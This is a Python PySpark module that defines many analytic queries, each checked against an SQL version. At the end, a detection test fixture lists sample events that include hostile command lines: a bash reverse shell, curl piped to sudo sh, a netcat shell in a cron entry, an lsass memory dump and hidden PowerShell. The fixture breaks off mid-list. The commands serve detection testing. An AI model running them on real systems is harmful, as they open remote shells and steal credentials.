"""All queries of the library outside the llm subpackage, with the SQL that checks them."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions import octets as B
from ..functions import policy
from ..functions import scalar as S
from ..functions import versions as V
from ..operators import detections, facts, graph, joins, vulnerabilities, windows

QUERIES: dict = {}
ORACLE_SQL: dict = {}
FLAGSHIP = "facts_keyed_fold"


def read(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def query(sql: str | None = None):
    """Registers a function of (read table) as a query, and its SQL."""

    def add(f):
        QUERIES[f.__name__] = lambda spark, sf_dir: f(lambda name: read(spark, sf_dir, name))
        if sql:
            ORACLE_SQL[f.__name__] = sql
        return f

    return add


#: Tasks over which dealt() deals rows.
TASKS = 64


def dealt(rows):
    """Rows of a small file dealt over tasks, before texts are made of them: their work is far larger than the file, whose size alone would decide how many tasks there are."""
    return rows.repartition(TASKS)


# --- facts and rules


@query("""
SELECT user_id, event_type, n, CASE WHEN n >= 3 THEN 'Confirmed' WHEN n = 2 THEN 'Corroborated' ELSE 'Candidate' END AS state,
       round(least(1.0, 0.5 + CASE WHEN n >= 2 THEN 0.08 ELSE 0.0 END + greatest(n - 2, 0) * 0.1), 6) AS confidence, first_seen, last_seen, payload
FROM (SELECT user_id, event_type, count(DISTINCT event_id) AS n, min(ts) AS first_seen, max(ts) AS last_seen, first(value ORDER BY ts, event_id) AS payload FROM events GROUP BY ALL)""")
def facts_keyed_fold(t):
    return facts.keyed_fold(t("events"), ["user_id", "event_type"], "event_id", "ts", F.lit(0.5), "value")


def _rules() -> list[facts.Rule]:
    kind, value = F.col("event_type"), F.col("value")
    key = F.concat_ws(":", F.col("user_id").cast("string"), kind)
    return [
        facts.Rule("R1a", (kind == "error") & (value > 90), key, "SevereError", 0.95, "Critical", 95.0, "error"),
        facts.Rule("R1b", kind == "error", key, "Error", 0.75, "Medium", 60.0, "error"),
        facts.Rule("R2", (kind == "purchase") & (value > 80), key, "LargePurchase", 0.85, "High", 80.0),
        facts.Rule("R3", value < 1, key, "TinyValue", 0.6, "Low", 15.0),
    ]


RULES_SQL = """
SELECT event_id, rule, entity_key, fact_type, confidence, severity, risk FROM (
  SELECT event_id, CASE WHEN value > 90 THEN 'R1a' ELSE 'R1b' END AS rule, user_id || ':' || event_type AS entity_key, CASE WHEN value > 90 THEN 'SevereError' ELSE 'Error' END AS fact_type,
         CAST(CASE WHEN value > 90 THEN 0.95 ELSE 0.75 END AS DOUBLE) AS confidence, CASE WHEN value > 90 THEN 'Critical' ELSE 'Medium' END AS severity, CAST(CASE WHEN value > 90 THEN 95 ELSE 60 END AS DOUBLE) AS risk FROM events WHERE event_type = 'error'
  UNION ALL SELECT event_id, 'R2', user_id || ':' || event_type, 'LargePurchase', 0.85, 'High', 80 FROM events WHERE event_type = 'purchase' AND value > 80
  UNION ALL SELECT event_id, 'R3', user_id || ':' || event_type, 'TinyValue', 0.6, 'Low', 15 FROM events WHERE value < 1)"""


@query(RULES_SQL)
def rule_candidates(t):
    return facts.candidates(t("events"), _rules()).select("event_id", "rule", "entity_key", "fact_type", "confidence", "severity", "risk")


@query(f"""
SELECT split_part(entity_key, ':', 1) AS host, CASE WHEN max(risk) >= 80 THEN 'Critical' WHEN max(risk) >= 50 THEN 'High' WHEN max(risk) >= 20 THEN 'Medium' ELSE 'Low' END AS level,
       max(risk) AS top, count(*) FILTER (severity = 'Critical') AS critical, count(*) FILTER (severity = 'High') AS high, count(*) AS n FROM ({RULES_SQL}) GROUP BY 1""")
def host_risk_levels(t):
    found = facts.candidates(t("events"), _rules()).withColumn("host", F.split("entity_key", ":")[0])
    out = found.groupBy("host").agg(F.max("risk").alias("top"), F.count_if(F.col("severity") == "Critical").alias("critical"), F.count_if(F.col("severity") == "High").alias("high"), F.count("*").alias("n"))
    return out.select("host", facts.band(F.col("top")).alias("level"), "top", "critical", "high", "n")


@query(f"SELECT event_id, rule, risk FROM ({RULES_SQL}) WHERE severity <> 'Info' AND risk >= 20")
def finding_gate(t):
    return facts.candidates(t("events"), _rules()).where((F.col("severity") != "Info") & (F.col("risk") >= 20)).select("event_id", "rule", "risk")


@query(f"""
SELECT event_id, rule, CAST(row_number() OVER (PARTITION BY rule ORDER BY CASE severity WHEN 'Critical' THEN 5 WHEN 'High' THEN 4 WHEN 'Medium' THEN 3 WHEN 'Low' THEN 2 ELSE 1 END DESC, risk DESC, event_id) AS INT) AS place FROM ({RULES_SQL})""")
def finding_order(t):
    found = facts.candidates(t("events"), _rules())
    return windows.numbered(found, ["rule"], [facts.severity_rank(F.col("severity")).desc(), F.desc("risk"), F.asc("event_id")], "place").select("event_id", "rule", "place")


@query(f"SELECT entity_key, string_agg(DISTINCT rule, ',' ORDER BY rule) AS members, round(avg(confidence), 6) AS confidence, count(*) AS n FROM ({RULES_SQL}) GROUP BY 1")
def evidence_aggregate(t):
    found = facts.candidates(t("events"), _rules())
    return found.groupBy("entity_key").agg(F.array_join(F.array_sort(F.collect_set("rule")), ",").alias("members"), F.round(F.avg("confidence"), 6).alias("confidence"), F.count("*").alias("n"))


@query("""
WITH truth AS (SELECT doc_id FROM labels WHERE toxic = 1), found AS (SELECT doc_id FROM documents WHERE regexp_matches(lower(text), '(trash|idiot|stupid|moron)'))
SELECT (SELECT count(*) FROM truth) AS expected, (SELECT count(*) FROM truth SEMI JOIN found USING (doc_id)) AS matched, (SELECT count(*) FROM truth ANTI JOIN found USING (doc_id)) AS missed""")
def scenario_score(t):
    truth = t("labels").where("toxic = 1").select("doc_id")
    found = t("documents").where(F.lower("text").rlike("(trash|idiot|stupid|moron)")).select("doc_id", F.lit(1).alias("hit"))
    return truth.join(found, "doc_id", "left").agg(F.count("*").alias("expected"), F.count("hit").alias("matched"), F.count_if(F.col("hit").isNull()).alias("missed"))


# --- timelines and joins in time


@query("""
SELECT event_id, CASE event_type WHEN 'error' THEN 'Alert' WHEN 'signup' THEN 'Account' ELSE 'Activity' END AS kind, CAST(json_extract_string(props, '$.k') AS BIGINT) AS k, strftime(ts, '%Y-%m-%d') AS day,
       CAST(row_number() OVER (PARTITION BY user_id ORDER BY ts IS NULL, ts, event_id) AS INT) AS place FROM events""")
def timeline_projection(t):
    kind = F.when(F.col("event_type") == "error", "Alert").when(F.col("event_type") == "signup", "Account").otherwise("Activity")
    out = windows.first_k(t("events"), ["user_id"], [F.asc_nulls_last("ts"), F.asc("event_id")], 1 << 30)
    return out.select("event_id", kind.alias("kind"), F.get_json_object("props", "$.k").cast("long").alias("k"), F.date_format("ts", "yyyy-MM-dd").alias("day"), F.col("rank").alias("place"))


HOUR = 6 * 3600
PAIRS_SQL = f"""SELECT e.event_id AS error_id, p.event_id AS purchase_id, e.user_id FROM events e JOIN events p ON e.user_id = p.user_id AND e.event_type = 'error' AND p.event_type = 'purchase'
AND abs((epoch_us(e.ts) - epoch_us(p.ts)) // 1000000) <= {HOUR} AND abs(epoch_us(e.ts) - epoch_us(p.ts)) // 1000000 <= {HOUR}"""


def _pairs(t):
    e = t("events").where("event_type = 'error'").select(F.col("event_id").alias("error_id"), "user_id", F.col("ts").alias("at"))
    p = t("events").where("event_type = 'purchase'").select(F.col("event_id").alias("purchase_id"), "user_id", F.col("ts").alias("other"))
    return joins.interval_join(e, p, ["user_id"], "at", "other", HOUR)


@query(f"SELECT error_id, purchase_id, user_id FROM (SELECT e.event_id AS error_id, p.event_id AS purchase_id, e.user_id FROM events e JOIN events p ON e.user_id = p.user_id AND e.event_type = 'error' AND p.event_type = 'purchase' AND abs(epoch_us(e.ts) - epoch_us(p.ts)) // 1000000 <= {HOUR})")
def interval_join_pair(t):
    return _pairs(t).select("error_id", "purchase_id", "user_id")


@query(f"""
WITH n AS (SELECT e.event_id AS error_id, p.event_type, min(struct_pack(ts := p.ts, event_id := p.event_id)) AS f FROM events e JOIN events p ON e.user_id = p.user_id AND e.event_type = 'error' AND p.event_type IN ('view', 'click')
  AND abs(epoch_us(e.ts) - epoch_us(p.ts)) // 1000000 <= {HOUR} GROUP BY 1, 2)
SELECT v.error_id, v.f.event_id AS view_id, c.f.event_id AS click_id FROM n v JOIN n c ON v.error_id = c.error_id AND v.event_type = 'view' AND c.event_type = 'click'""")
def multiway_temporal_first(t):
    e = t("events").where("event_type = 'error'").select(F.col("event_id").alias("error_id"), "user_id", F.col("ts").alias("at"))
    p = t("events").where("event_type IN ('view', 'click')").select("event_id", "event_type", "user_id", F.col("ts").alias("other"))
    met = joins.interval_join(e, p, ["user_id"], "at", "other", HOUR)
    first = lambda kind: F.min(F.when(F.col("event_type") == kind, F.struct("other", "event_id")))
    both = met.groupBy("error_id").agg(first("view").alias("v"), first("click").alias("c")).where("v IS NOT NULL AND c IS NOT NULL")
    return both.select("error_id", F.col("v.event_id").alias("view_id"), F.col("c.event_id").alias("click_id"))


@query("""
WITH last AS (SELECT o_custkey, last(o_orderpriority ORDER BY o_orderdate, o_orderkey) AS p FROM orders GROUP BY 1)
SELECT c_custkey, coalesce(p, 'none') AS priority, n_name AS nation FROM customer LEFT JOIN last ON c_custkey = o_custkey LEFT JOIN nation ON c_nationkey = n_nationkey""")
def attribution_lookup(t):
    last = joins.lookup_last(t("orders"), "o_custkey", ["o_orderdate", "o_orderkey"], "o_orderpriority").toDF("c_custkey", "priority")
    out = joins.attribute(t("customer"), last, "c_custkey", "priority", "none")
    return out.join(joins.small(t("nation")), F.col("c_nationkey") == F.col("n_nationkey"), "left").select("c_custkey", "priority", F.col("n_name").alias("nation"))


@query("""
SELECT user_id, event_id, instance FROM (SELECT *, CAST(sum(split) OVER (PARTITION BY user_id ORDER BY ts, event_id) AS BIGINT) AS instance FROM (
  SELECT *, CASE WHEN opens = 1 AND row_number() OVER (PARTITION BY user_id, seg ORDER BY ts, event_id) = 1 AND coalesce(lag(ended) OVER (PARTITION BY user_id ORDER BY ts, event_id), 0) = 1 THEN 1 ELSE 0 END AS split FROM (
    SELECT *, max(ends) OVER (PARTITION BY user_id, seg) AS ended FROM (
      SELECT *, sum(opens) OVER (PARTITION BY user_id ORDER BY ts, event_id) AS seg FROM (
        SELECT user_id, event_id, ts, CAST(event_type = 'signup' AS INT) AS opens, CAST(event_type = 'error' AS INT) AS ends FROM events)))))""")
def sessionize(t):
    return windows.instances(t("events"), ["user_id"], ["ts", "event_id"], F.col("event_type") == "signup", F.col("event_type") == "error").select("user_id", "event_id", "instance")


@query("""
SELECT conv_id, turn, md5(coalesce(text, '')) AS own, coalesce(lag(md5(coalesce(text, ''))) OVER (PARTITION BY conv_id ORDER BY turn), 'GENESIS') AS prev,
       turn = row_number() OVER (PARTITION BY conv_id ORDER BY turn) - 1 AS whole FROM conversations""")
def chain_check(t):
    own = t("conversations").withColumn("own", F.md5(F.coalesce("text", F.lit(""))))
    return windows.chain(own, "conv_id", "turn", F.col("own")).select("conv_id", "turn", "own", "prev", "whole")


@query("SELECT a.conv_id, a.turn, b.role AS parent_role FROM conversations a JOIN conversations b ON a.conv_id = b.conv_id AND a.turn = b.turn + 1")
def parent_self_join(t):
    c = t("conversations")
    return c.select("conv_id", "turn").join(c.select("conv_id", (F.col("turn") + 1).alias("turn"), F.col("role").alias("parent_role")), ["conv_id", "turn"])


# --- relational surface


@query("""
SELECT c_custkey, (SELECT count(*) FROM orders WHERE o_custkey = c_custkey) AS total, (SELECT count(*) FROM orders WHERE o_custkey = c_custkey AND o_orderstatus = 'F') AS done FROM customer""")
def correlated_counts(t):
    n = t("orders").groupBy("o_custkey").agg(F.count("*").alias("total"), F.count_if(F.col("o_orderstatus") == "F").alias("done"))
    return t("customer").join(n, F.col("c_custkey") == F.col("o_custkey"), "left").select("c_custkey", *(F.coalesce(c, F.lit(0).cast("long")).alias(c) for c in ("total", "done")))


@query("SELECT o_orderkey FROM orders WHERE EXISTS (SELECT 1 FROM lineitem WHERE l_orderkey = o_orderkey AND l_returnflag = 'R')")
def semi_exists(t):
    returned = t("lineitem").where("l_returnflag = 'R'").select(F.col("l_orderkey").alias("o_orderkey"))
    return t("orders").join(returned, "o_orderkey", "left_semi").select("o_orderkey")


@query("SELECT c_custkey FROM customer WHERE c_custkey NOT IN (SELECT o_custkey FROM orders WHERE o_custkey IS NOT NULL AND o_orderstatus = 'P')")
def anti_orphans(t):
    return t("customer").join(t("orders").where("o_orderstatus = 'P'").select(F.col("o_custkey").alias("c_custkey")), "c_custkey", "left_anti").select("c_custkey")


@query("SELECT c_nationkey AS k FROM customer EXCEPT SELECT s_nationkey FROM supplier WHERE s_acctbal > 6000")
def set_difference(t):
    return t("customer").select(F.col("c_nationkey").alias("k")).subtract(t("supplier").where("s_acctbal > 6000").select("s_nationkey"))


@query("SELECT c_nationkey AS k FROM customer INTERSECT SELECT s_nationkey FROM supplier")
def set_intersection(t):
    return t("customer").select(F.col("c_nationkey").alias("k")).intersect(t("supplier").select("s_nationkey"))


@query("SELECT 'customer' AS source, c_custkey AS id FROM customer UNION ALL SELECT 'supplier', s_suppkey FROM supplier")
def candidate_union(t):
    return t("customer").select(F.lit("customer").alias("source"), F.col("c_custkey").alias("id")).union(t("supplier").select(F.lit("supplier"), "s_suppkey"))


@query("""
WITH b AS (SELECT p_brand, min(p_retailprice) AS lo, max(p_retailprice) AS hi FROM part WHERE p_size <= 25 GROUP BY 1)
SELECT p_partkey, b.lo, b.hi FROM part JOIN b USING (p_brand) WHERE p_retailprice >= b.lo AND p_retailprice < b.hi""")
def range_match(t):
    p = t("part")
    bands = p.where("p_size <= 25").groupBy("p_brand").agg(F.min("p_retailprice").alias("lo"), F.max("p_retailprice").alias("hi"))
    return joins.range_join(p.select("p_partkey", "p_brand", "p_retailprice"), bands, ["p_brand"], "p_retailprice", "lo", "hi", 100.0).select("p_partkey", "lo", "hi")


@query("SELECT o_custkey, arg_max(o_orderkey, struct_pack(a := o_orderdate, b := o_orderkey)) AS newest FROM orders GROUP BY 1")
def argmax_newest(t):
    return joins.lookup_last(t("orders"), "o_custkey", ["o_orderdate", "o_orderkey"], "o_orderkey").toDF("o_custkey", "newest")


@query("""
SELECT o_custkey, p AS priority, n FROM (SELECT o_custkey, o_orderpriority AS p, count(*) AS n, row_number() OVER (PARTITION BY o_custkey ORDER BY count(*) DESC, o_orderpriority) AS r FROM orders GROUP BY 1, 2) WHERE r = 1""")
def mode_vote(t):
    votes = t("orders").groupBy("o_custkey", F.col("o_orderpriority").alias("priority")).agg(F.count("*").alias("n"))
    return windows.first_k(votes, ["o_custkey"], [F.desc("n"), F.asc("priority")], 1).drop("rank")


@query("SELECT l_linestatus, count(*) FILTER (l_returnflag = 'A') AS a, count(*) FILTER (l_returnflag = 'N') AS n, count(*) FILTER (l_returnflag = 'R') AS r FROM lineitem GROUP BY 1")
def severity_pivot(t):
    return t("lineitem").groupBy("l_linestatus").agg(*(F.count_if(F.col("l_returnflag") == x).alias(x.lower()) for x in "ANR"))


@query("SELECT l_orderkey, l_linenumber, CAST(r AS INT) AS rank FROM (SELECT *, row_number() OVER (PARTITION BY l_orderkey ORDER BY l_extendedprice DESC, l_linenumber) AS r FROM lineitem) WHERE r <= 3")
def topk_per_group(t):
    return windows.first_k(t("lineitem"), ["l_orderkey"], [F.desc("l_extendedprice"), F.asc("l_linenumber")], 3).select("l_orderkey", "l_linenumber", "rank")


@query("""SELECT o_orderkey, o_custkey, CAST(row_number() OVER (PARTITION BY o_custkey ORDER BY o_totalprice DESC, o_orderkey) AS INT) AS place FROM orders WHERE o_orderkey IN (SELECT l_orderkey FROM lineitem GROUP BY 1 HAVING bool_and(l_linestatus = 'F'))""")
def ready_tasks_in_order(t):
    ready = t("lineitem").groupBy(F.col("l_orderkey").alias("o_orderkey")).agg(F.bool_and(F.col("l_linestatus") == "F").alias("ok")).where("ok")
    own = t("orders").join(ready, "o_orderkey", "left_semi")
    return windows.first_k(own, ["o_custkey"], [F.desc("o_totalprice"), F.asc("o_orderkey")], 1 << 30).select("o_orderkey", "o_custkey", F.col("rank").alias("place"))


@query("SELECT o_orderkey FROM orders WHERE o_orderkey IN (SELECT l_orderkey FROM lineitem GROUP BY 1 HAVING bool_and(l_linestatus = 'F'))")
def task_readiness(t):
    ready = t("lineitem").groupBy(F.col("l_orderkey").alias("o_orderkey")).agg(F.bool_and(F.col("l_linestatus") == "F").alias("ok")).where("ok")
    return t("orders").join(ready, "o_orderkey", "left_semi").select("o_orderkey")


@query("SELECT md5(lower(trim(coalesce(text, ''), ' '))) AS h, min(doc_id) AS first_id, max(doc_id) AS last_id, count(*) AS n FROM documents GROUP BY 1")
def dedupe_first_last(t):
    own = t("documents").select("doc_id", F.md5(F.lower(F.trim(F.coalesce("text", F.lit(""))))).alias("h"))
    return own.groupBy("h").agg(F.min("doc_id").alias("first_id"), F.max("doc_id").alias("last_id"), F.count("*").alias("n"))


UPDATES_SQL = "SELECT s_suppkey, s_name || '*' AS s_name, s_nationkey, CASE WHEN s_suppkey % 2 = 0 THEN s_acctbal + 1 END AS s_acctbal FROM supplier WHERE s_nationkey < 10"


def _updates(t):
    s = t("supplier").where("s_nationkey < 10")
    return s.select("s_suppkey", F.concat("s_name", F.lit("*")).alias("s_name"), "s_nationkey", F.when(F.col("s_suppkey") % 2 == 0, F.col("s_acctbal") + 1).alias("s_acctbal"))


@query(f"SELECT * FROM supplier WHERE s_suppkey NOT IN (SELECT s_suppkey FROM ({UPDATES_SQL})) UNION ALL {UPDATES_SQL}")
def upsert_replace(t):
    return joins.upsert(t("supplier"), _updates(t), ["s_suppkey"])


@query(f"""SELECT s_suppkey, coalesce(u.s_name, b.s_name) AS s_name, coalesce(u.s_nationkey, b.s_nationkey) AS s_nationkey, greatest(b.s_acctbal, u.s_acctbal) AS s_acctbal
FROM supplier b FULL JOIN ({UPDATES_SQL}) u USING (s_suppkey)""")
def upsert_merge_fields(t):
    return joins.merge_fields(t("supplier"), _updates(t), ["s_suppkey"], ("s_acctbal",))


@query(f"SELECT * FROM supplier UNION ALL SELECT s_suppkey + 5, s_name, s_nationkey, s_acctbal FROM ({UPDATES_SQL}) WHERE s_suppkey + 5 NOT IN (SELECT s_suppkey FROM supplier)")
def insert_if_absent(t):
    return joins.insert_if_absent(t("supplier"), _updates(t).withColumn("s_suppkey", F.col("s_suppkey") + 5), ["s_suppkey"])


@query(f"SELECT * FROM supplier WHERE s_nationkey NOT IN (SELECT s_nationkey FROM ({UPDATES_SQL})) UNION ALL {UPDATES_SQL}")
def replace_partition(t):
    return joins.replace_partition(t("supplier"), _updates(t), "s_nationkey")


@query("SELECT n_name, r_name, coalesce(c, 0) AS customers FROM nation LEFT JOIN region ON n_regionkey = r_regionkey LEFT JOIN (SELECT c_nationkey, count(*) AS c FROM customer GROUP BY 1) ON c_nationkey = n_nationkey")
def compatibility_view(t):
    n = t("customer").groupBy("c_nationkey").agg(F.count("*").alias("c"))
    out = t("nation").join(joins.small(t("region")), F.col("n_regionkey") == F.col("r_regionkey"), "left").join(n, F.col("c_nationkey") == F.col("n_nationkey"), "left")
    return out.select("n_name", "r_name", F.coalesce("c", F.lit(0).cast("long")).alias("customers"))


@query("SELECT s_nationkey, min_by(s_name, s_suppkey) FILTER (s_acctbal > 0) AS name, string_agg(DISTINCT s_name, ',' ORDER BY s_name) AS names FROM supplier GROUP BY 1")
def asset_merge(t):
    s = t("supplier").select("s_nationkey", "s_suppkey", F.when(F.col("s_acctbal") > 0, F.col("s_name")).alias("name"), F.col("s_name").alias("names"))
    return facts.merge_assets(s, "s_nationkey", ["s_suppkey"], ["name"], ["names"])


@query("""SELECT l_returnflag, l_linestatus, count(*) AS n, CAST(sum(CAST(l_quantity AS BIGINT)) AS BIGINT) AS quantity, CAST(grouping(l_returnflag) AS INT) AS all_flags, CAST(grouping(l_linestatus) AS INT) AS all_status FROM lineitem GROUP BY CUBE (l_returnflag, l_linestatus)""")
def cube_counts(t):
    return t("lineitem").cube("l_returnflag", "l_linestatus").agg(F.count("*").alias("n"), F.sum(F.col("l_quantity").cast("long")).alias("quantity"), F.grouping("l_returnflag").cast("int").alias("all_flags"), F.grouping("l_linestatus").cast("int").alias("all_status"))


@query("SELECT count(DISTINCT l_suppkey) AS suppliers, l_returnflag FROM lineitem GROUP BY 2")
def count_distinct(t):
    return t("lineitem").groupBy("l_returnflag").agg(F.countDistinct("l_suppkey").alias("suppliers"))


# --- graph


@query("""SELECT id, kind, label FROM (SELECT 'r' || r_regionkey AS id, 'region' AS kind, r_name AS label FROM region UNION ALL SELECT 'n' || n_nationkey, 'nation', n_name FROM nation UNION ALL SELECT 'c' || c_custkey, 'customer', c_name FROM customer)""")
def graph_nodes(t):
    return _nodes(t).select("id", "kind", "label")


def _nodes(t):
    part = lambda name, letter, key, kind, label: t(name).select(F.concat(F.lit(letter), F.col(key).cast("string")).alias("id"), F.lit(kind).alias("kind"), F.col(label).alias("label"))
    return graph.nodes([part("region", "r", "r_regionkey", "region", "r_name"), part("nation", "n", "n_nationkey", "nation", "n_name"), part("customer", "c", "c_custkey", "customer", "c_name")])


def _edges(t):
    edge = lambda name, a, x, b, y: t(name).select(F.concat(F.lit(a), F.col(x).cast("string")).alias("src"), F.concat(F.lit(b), F.col(y).cast("string")).alias("dst"))
    return edge("nation", "n", "n_nationkey", "r", "n_regionkey").union(edge("customer", "c", "c_custkey", "n", "c_nationkey"))


EDGES_SQL = "SELECT 'n' || n_nationkey AS src, 'r' || n_regionkey AS dst FROM nation UNION ALL SELECT 'c' || c_custkey, 'n' || c_nationkey FROM customer"


@query(f"SELECT * FROM ({EDGES_SQL})")
def graph_edges(t):
    return _edges(t)


@query(f"SELECT * FROM ({EDGES_SQL}) WHERE src[1] = 'n'")
def graph_layer(t):
    return graph.layer(_nodes(t), _edges(t), ["nation", "region"]).select("src", "dst")


@query(f"SELECT src AS neighbour FROM ({EDGES_SQL}) WHERE dst = 'n3' UNION SELECT dst FROM ({EDGES_SQL}) WHERE src = 'n3'")
def neighbourhood(t):
    e = _edges(t)
    return e.where("dst = 'n3'").select(F.col("src").alias("neighbour")).union(e.where("src = 'n3'").select("dst")).distinct()


@query(f"""WITH e AS ({EDGES_SQL}), r AS (SELECT src AS id, dst AS up FROM e WHERE src[1] = 'n' UNION ALL SELECT c.src, n.dst FROM e c JOIN e n ON c.dst = n.src UNION ALL SELECT DISTINCT dst, dst FROM e WHERE dst[1] = 'r')
SELECT id, min(id) OVER (PARTITION BY up) AS component FROM r""")
def graph_components(t):
    return graph.components(_edges(t))


# --- text and scalar functions


@query("SELECT doc_id FROM documents WHERE contains(lower(text), 'license') AND lang = 'en'")
def text_search(t):
    return t("documents").where(F.lower("text").contains("license") & (F.col("lang") == "en")).select("doc_id")


@query("SELECT p_partkey, p_name FROM part WHERE p_name LIKE '%a%' AND lower(p_brand) = lower('BRAND#11')")
def like_and_case(t):
    return t("part").where(F.col("p_name").like("%a%") & (F.lower("p_brand") == "brand#11")).select("p_partkey", "p_name")


@query("SELECT doc_id, unnest(list_distinct(regexp_extract_all(text, '[a-z]+ing'))) AS flag FROM documents")
def flag_scan(t):
    return t("documents").select("doc_id", F.explode(F.array_distinct(F.regexp_extract_all("text", F.lit("([a-z]+ing)")))).alias("flag"))


@query("SELECT page_id, trim(regexp_replace(replace(replace(replace(replace(replace(regexp_replace(html, '<[^>]*>', ' ', 'g'), '&nbsp;', ' '), '&lt;', '<'), '&gt;', '>'), '&quot;', '\"'), '&amp;', '&'), '[ \\t\\r\\n]+', ' ', 'g'), ' ') AS text FROM pages")
def html_strip(t):
    return t("pages").select("page_id", S.strip_html(F.col("html")).alias("text"))


@query("SELECT page_id, regexp_extract(url, '([^/\\\\]*)$', 1) AS base, CASE WHEN length(url) > 20 THEN substring(url, 1, 19) || '…' ELSE url END AS short FROM pages")
def basename_and_short(t):
    return t("pages").select("page_id", S.basename(F.col("url")).alias("base"), S.shorten(F.col("url"), 20).alias("short"))


ROT_SQL = "translate(text, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ', 'nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM')"


@query(f"SELECT doc_id, sha256(hex(encode(text))) AS hex, sha256(base64(encode(text))) AS base64, sha256({ROT_SQL}) AS rot13, sha256(text) AS sha256 FROM documents")
def recipes(t):
    text, digest = F.col("text"), lambda c: F.sha2(c, 256)
    flat = F.regexp_replace(F.base64(text.cast("binary")), "[\r\n]", "")
    return t("documents").select("doc_id", digest(F.hex(text.cast("binary"))).alias("hex"), digest(flat).alias("base64"), digest(S.rot13(text)).alias("rot13"), digest(text).alias("sha256"))


@query("""SELECT doc_id, count(*) AS kinds, CAST(max(n) AS BIGINT) AS most, round(-sum((n / t) * log2(n / t)), 6) AS entropy FROM (SELECT doc_id, c, count(*) AS n, sum(count(*)) OVER (PARTITION BY doc_id) AS t FROM
  (SELECT doc_id, unnest(string_split(text, '')) AS c FROM documents WHERE length(text) > 0) GROUP BY 1, 2) GROUP BY 1""")
def char_entropy(t):
    return B.char_statistics(t("documents"), "doc_id", F.col("text"))


@query("""SELECT s_suppkey, concat_ws('.', (ip >> 24) & 255, (ip >> 16) & 255, (ip >> 8) & 255, ip & 255) AS ip, ip >> 28 = 10 >> 4 OR ip >> 24 = 10 OR ip >> 20 = (172 * 16 + 1) AS inside
FROM (SELECT s_suppkey, (s_suppkey * 2654435761) % 4294967296 AS ip FROM supplier)""")
def scope_test(t):
    ip = S.ip4_text((F.col("s_suppkey") * 2654435761) % 4294967296)
    return t("supplier").select("s_suppkey", ip.alias("ip")).withColumn("inside", S.in_scope(F.col("ip"), ["0.0.0.0/4", "10.0.0.0/8", "172.16.0.0/12"]))


@query("""SELECT p_partkey, CAST(rank() OVER (PARTITION BY p_brand ORDER BY p_size, p_partkey % 10, CASE WHEN p_partkey % 3 = 0 THEN 0 ELSE 1 END) AS INT) AS place FROM part""")
def version_order(t):
    from pyspark.sql.window import Window

    v = F.concat(F.col("p_size").cast("string"), F.lit("."), (F.col("p_partkey") % 10).cast("string"), F.when(F.col("p_partkey") % 3 == 0, "-rc.1").otherwise(""))
    return t("part").select("p_partkey", F.rank().over(Window.partitionBy("p_brand").orderBy(S.semver_key(v))).alias("place"))


@query("SELECT p_partkey, CASE p_size % 3 WHEN 0 THEN 9.8 WHEN 1 THEN 6.1 ELSE 0.0 END AS score, CASE p_size % 3 WHEN 0 THEN 'Critical' WHEN 1 THEN 'Medium' ELSE 'None' END AS band FROM part")
def cvss_score(t):
    vector = F.when(F.col("p_size") % 3 == 0, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H").when(F.col("p_size") % 3 == 1, "CVSS:3.0/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N").otherwise("CVSS:3.1/AV:L/AC:H/PR:H/UI:R/S:U/C:N/I:N/A:N")
    return t("part").select("p_partkey", S.cvss3(vector).alias("score")).withColumn("band", S.cvss_band(F.col("score")))


@query("SELECT p_partkey, round(least(10.0, p_size / 5.0 * 0.75 * 1.25 * CASE WHEN p_size % 4 = 0 THEN 0.1 ELSE 1.0 END + CASE WHEN p_size % 7 = 0 THEN 2.5 ELSE 0.0 END + (p_size % 10) / 10.0 * 2), 1) AS risk FROM part")
def contextual_risk(t):
    size = F.col("p_size")
    return t("part").select("p_partkey", S.risk(size / 5.0, F.lit(0.75), F.lit(1.25), size % 4 == 0, size % 7 == 0, (size % 10) / 10.0).alias("risk"))


@query("SELECT p_partkey, array_to_string(list_filter(regexp_split_to_array(lower(p_type), '[^a-z0-9]+'), lambda w: w <> ''), '|') AS words FROM part")
def identifier_words(t):
    return t("part").select("p_partkey", F.array_join(S.words_of_identifier(F.lower("p_type")), "|").alias("words"))


@query("SELECT p_brand, regexp_replace(lower(p_brand), '[-_.]+', '-', 'g') AS pypi, count(*) AS n FROM part GROUP BY ALL")
def package_names(t):
    return t("part").groupBy("p_brand", S.package_name(F.col("p_brand"), "PyPI").alias("pypi")).agg(F.count("*").alias("n"))


# --- detections and vulnerabilities

#: What events are given in turn as an observation, and the rules that hold for it.
OBSERVED = (
    (dict(process="bash", command="bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"), "LIN-001a"), (dict(process="sh", command="curl http://x/y | sudo sh"), "LIN-001d"), (dict(process="grep", command="grep /dev/tcp/ notes"), None),
    (dict(process="cmd.exe", command="schtasks /Create /tn x"), "WIN-001b"), (dict(process="a.exe", command="PROCDUMP -ma lsass"), "WIN-001a"), (dict(process="bash", command="nc -l 80"), None), (dict(process="cmd.exe", command="whoami /all"), "WIN-001c"),
    (dict(process="powershell.exe", command="powershell -enc AAA"), "WIN-001d"), (dict(process="bash", exe="/usr/bin/bash", command="x -enc y"), None), (dict(process="cmd.exe", parent="WINWORD.EXE"), "WIN-001e"), (dict(exe="C:\\Users\\Public\\a.exe"), "WIN-001f"),
    (dict(action="powershell -w hidden x"), "WIN-002"), (dict(service="s", unquoted_risk="true"), "WIN-004"), (dict(service="s", unquoted_risk="false"), None), (dict(destination_ip="1.2.3.4", destination_port="4444", process="cmd.exe"), "WIN-003a"),
    (dict(destination_ip="1.2.3.4", destination_port="80", process="cmd.exe"), "WIN-003b"), (dict(destination_ip="127.0.0.1", destination_port="80", process="cmd.exe"), None), (dict(exe="/tmp/a"), "LIN-001b"), (dict(exe="/memfd:a", exe_deleted="true"), "LIN-001e"),
    (dict(exe="/usr/bin/a", exe_deleted="true"), "LIN-001c"), (dict(exe="/home/a", exe_deleted="true"), "LIN-001c"), (dict(mechanism="cron", item="i", action="/tmp/x"), "LIN-002a"), (dict(mechanism="cron", item="i", action="nc -e /bin/sh h 9"), "LIN-002a"),
